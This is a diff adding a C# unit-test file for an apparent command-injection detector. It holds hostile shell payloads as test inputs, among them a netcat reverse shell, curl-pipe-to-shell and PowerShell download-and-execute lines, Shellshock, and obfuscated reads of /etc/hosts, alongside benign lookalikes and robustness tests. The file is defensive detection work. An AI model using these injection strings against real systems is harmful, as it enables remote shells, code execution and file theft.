@@ -1,0 +1,92 @@
+using System.Text;
+using CsCheck;
+using FunctionShield.Decoding;
+using FunctionShield.Detection;
+using FunctionShield.Events;
+using FunctionShield.Findings;
+
+namespace FunctionShield.Tests.Detection;
+
+public class CommandInjectionTests
+{
+    [Theory]
+    [InlineData("8.8.8.8; cat /etc/hosts")]
+    [InlineData("x | nc 10.0.0.1 99 -e /bin/sh")]
+    [InlineData("report.pdf&& curl http://a.example/x")]
+    [InlineData("$(curl a.example|sh).csv")]
+    [InlineData("`uname`")]
+    [InlineData("x\nwget http://a.example")]
+    [InlineData("a;c'a't${IFS}/etc/hosts")]
+    [InlineData("a;w\\ho\\ami")]
+    [InlineData("a;/???/c?t /etc/hosts")]
+    [InlineData("a;{cat,/etc/hosts}")]
+    [InlineData("& powershell -enc AAAA")]
+    [InlineData("; IEX (New-Object Net.WebClient).DownloadString('http://a.example')")]
+    [InlineData("() { :;}; /bin/sh -c id")]
+    [InlineData("<!--#exec cmd=\"id\"-->")]
+    [InlineData("system('id');")]
+    public void A_command_that_parses_on_is_sure(string value) => Assert.Equal(Confidence.High, Ask(value, FieldKind.Query));
+
+    [Theory]
+    [InlineData("R&D; more of it")]
+    [InlineData("fish & chips | $5.00")]
+    [InlineData("Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101")]
+    [InlineData("text/html;q=0.9, sort;q=1")]
+    [InlineData("a=b; c=d; id=7")]
+    [InlineData("https://a.example/?x=1&id=5&sort=asc")]
+    [InlineData("https://a.example/sync?id=${USER_ID}")]
+    [InlineData("name|date|type")]
+    [InlineData("| id | name | type |\n|----|------|------|")]
+    [InlineData("Use `ls -l` to list files; then `cat` them")]
+    [InlineData("var a = b; return a && find(x);")]
+    [InlineData("p{color:red;cursor:wait}")]
+    [InlineData("O'Neil; Tom & Jerry's cat")]
+    [InlineData("top 10 cats; less is more")]
+    [InlineData("find me at home")]
+    [InlineData("&lt;b&gt;sort&copy;")]
+    public void Text_that_no_shell_would_run_is_nothing(string value) => Assert.Null(Ask(value, FieldKind.Body));
+
+    [Fact]
+    public void A_value_that_is_a_command_line_is_logged()
+    {
+        Assert.NotNull(Ask("netstat", FieldKind.Query));
+        Assert.NotNull(Ask("which wget", FieldKind.Query));
+        Assert.Null(Ask("which car", FieldKind.Query));
+    }
+
+    [Fact]
+    public void Any_text_is_survived() =>
+        Gen.OneOf(
+            Gen.Byte.Array[0, 60],
+            Gen.Char["'\"`$(){}|&;\\\n+ lscat/=%^"].Array[0, 60].Select(chars => Encoding.UTF8.GetBytes(chars))).Sample(text => { Ask(text, FieldKind.Query); });
+
+    [Fact]
+    public void Long_runs_are_survived()
+    {
+        foreach (string run in new[] { "; ls", "|", "&a", "$(", "`", "'", "\\n", "() {" })
+            Ask(string.Concat(Enumerable.Repeat(run, 100_000)), FieldKind.Query);
+    }
+
+    [Fact]
+    public void Nothing_found_allocates_nothing()
+    {
+        byte[] text = Encoding.UTF8.GetBytes("a=b; c=d | e && f `g` $(h) 'i' \"j\"");
+        Ask(text, FieldKind.Query);
+        long before = GC.GetAllocatedBytesForCurrentThread();
+        for (int i = 0; i < 100; i++)
+            Ask(text, FieldKind.Query);
+        Assert.Equal(0, GC.GetAllocatedBytesForCurrentThread() - before);
+    }
+
+    private static Confidence? Ask(string value, FieldKind kind) => Ask(Encoding.UTF8.GetBytes(value), kind);
+
+    private static Confidence? Ask(byte[] text, FieldKind kind)
+    {
+        var slots = new FindingSlots();
+        var findings = new FindingBuffer(slots);
+        CommandInjection.Detect(new FieldView(text, "host"u8, kind, DecodeLayers.None, FirstLook.At(text)), ref findings);
+        foreach (ref readonly Finding finding in findings.Findings)
+            Assert.InRange(finding.Start + finding.Length, 0, text.Length);
+        return findings.Count == 0 ? null : findings.Findings[0].Confidence;
+    }
+}
